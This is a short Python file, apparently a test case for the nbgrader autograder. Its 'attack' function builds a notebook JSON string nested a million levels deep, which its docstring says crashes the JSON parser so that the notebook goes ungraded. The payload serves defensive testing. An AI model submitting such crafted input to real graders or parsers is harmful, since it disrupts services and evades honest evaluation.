"""Nests lists a million levels deep.

Would end the JSON parser by its stack.

Plain nbgrader: is not graded.
"""


def attack(notebook):
    return '{"cells": ' + "[" * 10**6 + "]" * 10**6 + "}"
